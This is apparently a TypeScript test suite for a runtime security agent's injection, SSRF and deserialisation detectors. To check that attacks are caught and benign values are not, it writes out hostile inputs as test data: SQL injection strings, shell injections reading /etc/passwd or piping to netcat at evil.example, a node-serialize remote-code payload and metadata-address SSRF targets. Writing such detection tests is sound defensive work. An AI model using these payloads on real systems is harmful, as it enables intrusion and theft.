// Cases a peer product is known to get wrong, checked in both directions
// (attack caught, benign not flagged) through the same path the agent takes:
// the request's values go through collectInputs (which adds the decoded forms
// an app may use), then the detector sees the string the sink received.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import type { InputSource, UserInput } from './types.js';
import { collectInputs } from '../context/inputs.js';
import { detectSqlInjection } from './sql/index.js';
import { detectShellInjection } from './shell/index.js';
import { detectCodeInjection } from './code/index.js';
import { detectSsrf } from './ssrf/index.js';
import { detectUnsafeDeserialization } from './deserialize/index.js';

/** The request's inputs, decoded forms included, for one parsed source object. */
const inputsOf = (value: Record<string, unknown>, source: InputSource = 'query'): UserInput[] => collectInputs([{ source, prefix: source, value }]);

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
/** Every byte percent-encoded (`'` → `%27`), as a client encoding defensively would. */
const pct = (s: string): string => [...Buffer.from(s, 'utf8')].map((b) => '%' + b.toString(16).toUpperCase().padStart(2, '0')).join('');
/** URL-encoded twice (`'` → `%2527`): the app calls decodeURIComponent on a value that was already decoded once. */
const pct2 = (s: string): string => pct(s).replace(/%/g, '%25');
/** A string literal escaped the way a careful app does it (standard SQL). */
const lit = (s: string): string => `'${s.replace(/'/g, "''")}'`;

// ---------------------------------------------------------------------------
// 1. Payloads the app decodes before use

describe('payloads decoded by the app before use', () => {
  const SQLI = "' OR 1=1 --";
  const byCategory = (category: string): string => `SELECT * FROM products WHERE category = '${category}'`;

  it('base64 of a SQL payload: the decoded form is traced to its input', () => {
    const raw = b64(SQLI);
    const inputs = inputsOf({ filter: raw });
    // The raw base64 text alone explains nothing in the query: the decoded form must be what is found.
    assert.equal(detectSqlInjection(byCategory(SQLI), 'postgres', [{ source: 'query', path: 'query.filter', value: raw }]), null);
    const f = detectSqlInjection(byCategory(SQLI), 'postgres', inputs);
    assert.equal(f?.rule, 'sql_injection');
    assert.equal(f?.input?.transform, 'base64');
    assert.equal(f?.input?.path, 'query.filter');
    assert.equal(f?.input?.value, SQLI);
  });

  it('base64 of a benign value, escaped into the literal, is not flagged', () => {
    for (const v of ["Garden & Patio, Kids' Toys", 'select a color', 'Rock -- n -- Roll']) {
      const inputs = inputsOf({ filter: b64(v) });
      assert.ok(inputs.some((i) => i.transform === 'base64' && i.value === v), `decoded form of ${v}`);
      assert.equal(detectSqlInjection(`SELECT * FROM products WHERE category = ${lit(v)}`, 'postgres', inputs), null, v);
    }
  });

  it('base64 of a shell payload', () => {
    const payload = 'x; cat /etc/passwd';
    const inputs = inputsOf({ dir: b64(payload) });
    const f = detectShellInjection(`ls -la ${payload}`, inputs);
    assert.equal(f?.rule, 'shell_injection');
    assert.equal(f?.input?.transform, 'base64');
    assert.equal(f?.input?.path, 'query.dir');
    // the same decoded value quoted by the app is an argument, not syntax
    assert.equal(detectShellInjection(`ls -la '${payload}'`, inputs), null);
    // a benign decoded file name with a space, double-quoted by the app
    assert.equal(detectShellInjection('convert "my photo.jpg" out.png', inputsOf({ file: b64('my photo.jpg') })), null);
  });

  it('JSON inside a string: SQL and shell payloads in a field of the embedded object', () => {
    const sqlInputs = inputsOf({ f: JSON.stringify({ name: "x' UNION SELECT password FROM users--" }) }, 'body');
    const f = detectSqlInjection("SELECT * FROM users WHERE name = 'x' UNION SELECT password FROM users--'", 'mysql', sqlInputs);
    assert.equal(f?.rule, 'sql_injection');
    assert.equal(f?.input?.transform, 'json');
    assert.equal(f?.input?.path, 'body.f.name');

    const shInputs = inputsOf({ opts: JSON.stringify({ host: '127.0.0.1 && id' }) }, 'body');
    const s = detectShellInjection('ping -c 1 127.0.0.1 && id', shInputs);
    assert.equal(s?.rule, 'shell_injection');
    assert.equal(s?.input?.transform, 'json');
  });

  it('JSON inside a string with a benign apostrophe, escaped or bound, is not flagged', () => {
    const inputs = inputsOf({ f: JSON.stringify({ name: "O'Brien", note: 'select a color' }) }, 'body');
    assert.ok(inputs.some((i) => i.transform === 'json' && i.value === "O'Brien"));
    assert.equal(detectSqlInjection(`SELECT * FROM users WHERE name = ${lit("O'Brien")} AND note = ${lit('select a color')}`, 'postgres', inputs), null);
    assert.equal(detectSqlInjection('SELECT * FROM users WHERE name = $1 AND note = $2', 'postgres', inputs), null);
  });

  it('Unicode full-width characters normalised by NFKC (U+FF07 fullwidth apostrophe)', () => {
    const raw = '\uff07 OR 1=1 --';
    const normalised = raw.normalize('NFKC');
    assert.equal(normalised, SQLI);
    const inputs = inputsOf({ category: raw });
    // the raw full-width text inside the app's literal is data
    assert.equal(detectSqlInjection(byCategory(raw), 'postgres', inputs), null);
    const f = detectSqlInjection(byCategory(normalised), 'postgres', inputs);
    assert.equal(f?.rule, 'sql_injection');
    assert.equal(f?.input?.transform, 'nfkc');
    assert.equal(f?.input?.path, 'query.category');
  });

  it('NFKC: full-width shell metacharacters (U+FF1B ；, U+FF5C ｜) become syntax', () => {
    for (const raw of ['x\uff1b id', 'x \uff5c nc evil.example 4444']) {
      const cmd = `ls ${raw.normalize('NFKC')}`;
      const f = detectShellInjection(cmd, inputsOf({ dir: raw }));
      assert.equal(f?.rule, 'shell_injection', raw);
      assert.equal(f?.input?.transform, 'nfkc', raw);
    }
  });

  it('NFKC: benign full-width and accented text is not flagged', () => {
    for (const raw of ['\uff34\uff4f\uff4b\uff59\uff4f', 'Caf\u0065\u0301 cr\u00e8me', 'Ｏ＇Ｂｒｉｅｎ']) {
      const n = raw.normalize('NFKC');
      const inputs = inputsOf({ q: raw });
      assert.equal(detectSqlInjection(`SELECT * FROM t WHERE a = ${lit(raw)} AND b = ${lit(n)}`, 'postgres', inputs), null, raw);
      assert.equal(detectShellInjection(`grep -ri '${n.replace(/'/g, `'\\''`)}' /srv`, inputs), null, raw);
    }
  });

  it('an input URL-encoded twice (%2527): the twice-decoded form is traced', () => {
    const raw = pct2(SQLI);
    assert.ok(raw.startsWith('%2527'));
    const inputs = inputsOf({ category: raw });
    const once = inputs.find((i) => i.transform === 'url');
    assert.equal(once?.value, pct(SQLI));
    const f = detectSqlInjection(byCategory(SQLI), 'postgres', inputs);
    assert.equal(f?.rule, 'sql_injection');
    assert.equal(f?.input?.transform, 'url+url');
    assert.equal(f?.input?.value, SQLI);

    const sh = 'x; id';
    const s = detectShellInjection(`ls ${sh}`, inputsOf({ dir: pct2(sh) }));
    assert.equal(s?.rule, 'shell_injection');
    assert.equal(s?.input?.transform, 'url+url');
  });

  it('a benign value URL-encoded twice is not flagged', () => {
    for (const v of ["50% off, kids' shoes", 'select a color', 'my photo.jpg']) {
      const inputs = inputsOf({ q: pct2(v) });
      assert.ok(inputs.some((i) => i.transform === 'url+url' && i.value === v), v);
      assert.equal(detectSqlInjection(`SELECT * FROM t WHERE a = ${lit(v)}`, 'postgres', inputs), null, v);
      assert.equal(detectShellInjection(`convert "${v}" out.png`, inputs), null, v);
    }
  });
});

// ---------------------------------------------------------------------------
// 2. Host and port passed separately to http.get / http.request

describe('SSRF: http.get({ host: req.query.host, port: req.query.port, path })', () => {
  // The sink (sinks/http targetOf) takes `hostname ?? host` from the options object verbatim;
  // the port never decides the verdict.
  const request = (host: string, port = '8080', path = '/admin') => inputsOf({ host, port, path });

  it('internal hosts in a separate host field are caught, and attributed to query.host', () => {
    const cases: Array<[string, string | null, string, string]> = [
      ['127.0.0.1', null, 'loopback', 'high'],
      ['169.254.169.254', null, 'metadata', 'critical'],
      ['localhost', null, 'loopback', 'high'],
      ['localhost', '127.0.0.1', 'loopback', 'high'],
      ['2130706433', null, 'loopback', 'high'], // decimal IPv4: 127.0.0.1
      ['2130706433', '127.0.0.1', 'loopback', 'high'],
    ];
    for (const [host, resolved, cls, level] of cases) {
      const f = detectSsrf(host, resolved, request(host));
      const label = `${host} (${resolved ?? 'unresolved'})`;
      assert.equal(f?.rule, 'ssrf', label);
      assert.equal(f?.input?.path, 'query.host', label);
      assert.equal(f?.detail?.addressClass, cls, label);
      assert.equal(f?.threatLevel, level, label);
    }
    assert.equal(detectSsrf('2130706433', null, request('2130706433'))?.detail?.address, '127.0.0.1');
  });

  it('a host sent as a JSON number (the app turns it into text) is input too', () => {
    // `{"host": 2130706433}` → http.get({ host: String(body.host) }) connects to 127.0.0.1.
    const f = detectSsrf('2130706433', null, inputsOf({ host: 2130706433, port: 8080 }, 'body'));
    assert.equal(f?.rule, 'ssrf');
    assert.equal(f?.input?.path, 'body.host');
    assert.equal(detectSsrf('127.1', null, inputsOf({ host: 127.1 }, 'body'))?.detail?.addressClass, 'loopback');
    // Numbers are word-like text in every other sink: an id or a price is no SQL or shell syntax.
    const numbers = inputsOf({ id: 42, price: 9.5, qty: -3 }, 'body');
    assert.equal(detectSqlInjection('SELECT * FROM t WHERE id = 42 AND price < 9.5 AND qty > -3', 'postgres', numbers), null);
    assert.equal(detectShellInjection('resize 42 -3', numbers), null);
  });

  it('a public host from input with a user-chosen port is not flagged', () => {
    assert.equal(detectSsrf('example.com', '93.184.215.14', request('example.com', '443', '/status')), null);
    assert.equal(detectSsrf('example.com', null, request('example.com', '6379', '/')), null);
    assert.equal(detectSsrf('8.8.8.8', '8.8.8.8', request('8.8.8.8', '53', '/')), null);
  });

  it("the app's own internal host with only the port or path from input is not flagged", () => {
    const inputs = inputsOf({ port: '8080', path: '/health' });
    assert.equal(detectSsrf('localhost', '127.0.0.1', inputs), null);
    assert.equal(detectSsrf('127.0.0.1', null, inputs), null);
    assert.equal(detectSsrf('169.254.169.254', null, inputs), null);
  });
});

// ---------------------------------------------------------------------------
// 3. Unsafe deserialisation (node-serialize)

describe('node-serialize unserialize of _$$ND_FUNC$$_ with an IIFE', () => {
  const ND_IIFE = `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id', function(error, stdout, stderr) { console.log(stdout) });}()"}`;

  it('a base64 cookie the app decodes and unserializes is caught, traced to the cookie', () => {
    const inputs = inputsOf({ profile: b64(ND_IIFE) }, 'cookies');
    const f = detectUnsafeDeserialization(ND_IIFE, 'node-serialize', inputs);
    assert.equal(f?.rule, 'deserialization');
    assert.equal(f?.threatLevel, 'critical');
    assert.equal(f?.detail?.runsOnLoad, true);
    assert.equal(f?.input?.path, 'cookies.profile');
    assert.equal(f?.input?.transform, 'base64');
    assert.equal(f?.confidence, 0.98);
  });

  it('a plain body field holding the payload is caught', () => {
    const f = detectUnsafeDeserialization(ND_IIFE, 'node-serialize', inputsOf({ data: ND_IIFE }, 'body'));
    assert.equal(f?.detail?.runsOnLoad, true);
    assert.equal(f?.input?.path, 'body.data');
  });

  it('an ordinary serialized profile, base64 in a cookie, is not flagged', () => {
    const p = '{"username":"O\'Brien","country":"India","note":"costs $$5, select a color"}';
    assert.equal(detectUnsafeDeserialization(p, 'node-serialize', inputsOf({ profile: b64(p) }, 'cookies')), null);
  });
});

// ---------------------------------------------------------------------------
// 4. Benign inputs that must not be flagged (and their attack counterparts)

describe('benign inputs are not flagged', () => {
  it('a file name with spaces passed to a quoted command', () => {
    const inputs = inputsOf({ file: 'my photo.jpg' });
    assert.equal(detectShellInjection('convert "my photo.jpg" out.png', inputs), null);
    assert.equal(detectShellInjection("convert 'my photo.jpg' out.png", inputs), null);
    // counterpart: the same slot with an injected quote and command
    const evil = 'my photo.jpg" out.png; id; echo "';
    assert.equal(detectShellInjection(`convert "${evil}" out.png`, inputsOf({ file: evil }))?.rule, 'shell_injection');
  });

  it('user formulas evaluated by the code sink', () => {
    for (const formula of ['price * qty', '(price + tax) * qty', '(price + tax) * qty * (1 - discount / 100)']) {
      const inputs = inputsOf({ formula }, 'body');
      assert.equal(detectCodeInjection(formula, inputs), null, `eval(${formula})`);
      assert.equal(detectCodeInjection(`return ${formula}`, inputs), null, `new Function(return ${formula})`);
      assert.equal(detectCodeInjection(`return (${formula});`, inputs), null, formula);
    }
    // counterpart: a "formula" reaching the runtime
    const evil = "(price + tax) * require('child_process').execSync('id')";
    const f = detectCodeInjection(`return ${evil}`, inputsOf({ formula: evil }, 'body'));
    assert.equal(f?.rule, 'code_injection');
    assert.equal(f?.input?.path, 'body.formula');
  });

  it('ORDER BY price desc, name (the input is the list)', () => {
    const inputs = inputsOf({ sort: 'price desc, name' });
    for (const d of ['postgres', 'mysql', 'sqlite'] as const) {
      assert.equal(detectSqlInjection('SELECT * FROM products ORDER BY price desc, name LIMIT 20', d, inputs), null, d);
    }
    // counterpart: a subquery smuggled into the ORDER BY list
    const evil = 'price desc, (SELECT CASE WHEN 1=1 THEN name ELSE price END)';
    assert.equal(detectSqlInjection(`SELECT * FROM products ORDER BY ${evil} LIMIT 20`, 'postgres', inputsOf({ sort: evil }))?.rule, 'sql_injection');
  });

  it('names with apostrophes passed as parameters, or escaped', () => {
    for (const name of ["O'Brien", "D'Angelo-O'Neil", "l'Hôpital"]) {
      const inputs = inputsOf({ name }, 'body');
      assert.equal(detectSqlInjection('SELECT * FROM users WHERE name = $1', 'postgres', inputs), null, name);
      assert.equal(detectSqlInjection('INSERT INTO users (name, email) VALUES (?, ?)', 'mysql', inputs), null, name);
      assert.equal(detectSqlInjection(`SELECT * FROM users WHERE name = ${lit(name)}`, 'sqlite', inputs), null, name);
    }
  });

  it('text mentioning SQL keywords, in a literal or bound', () => {
    for (const text of ['select a color', 'Please select a color and drop me a line', 'union members: update your details, or delete them']) {
      const inputs = inputsOf({ comment: text }, 'body');
      assert.equal(detectSqlInjection(`INSERT INTO comments (body) VALUES (${lit(text)})`, 'postgres', inputs), null, text);
      assert.equal(detectSqlInjection('INSERT INTO comments (body) VALUES ($1)', 'postgres', inputs), null, text);
    }
    // counterpart: the same words breaking out of the literal
    const evil = "x'); DELETE FROM comments; --";
    assert.equal(detectSqlInjection(`INSERT INTO comments (body) VALUES ('${evil}')`, 'postgres', inputsOf({ comment: evil }, 'body'))?.rule, 'sql_injection');
  });

  it('-- inside a properly quoted literal', () => {
    for (const text of ['great product -- would buy again', "it's fine -- really", '--']) {
      const inputs = inputsOf({ review: text }, 'body');
      for (const d of ['postgres', 'mysql', 'sqlite'] as const) {
        assert.equal(detectSqlInjection(`INSERT INTO reviews (body, stars) VALUES (${lit(text)}, 5)`, d, inputs), null, `${d} ${text}`);
      }
    }
    // counterpart: -- after the input closed the literal
    const evil = "admin' --";
    assert.equal(detectSqlInjection(`SELECT * FROM users WHERE user = '${evil}' AND pass = 'x'`, 'postgres', inputsOf({ user: evil }, 'body'))?.rule, 'sql_injection');
  });
});
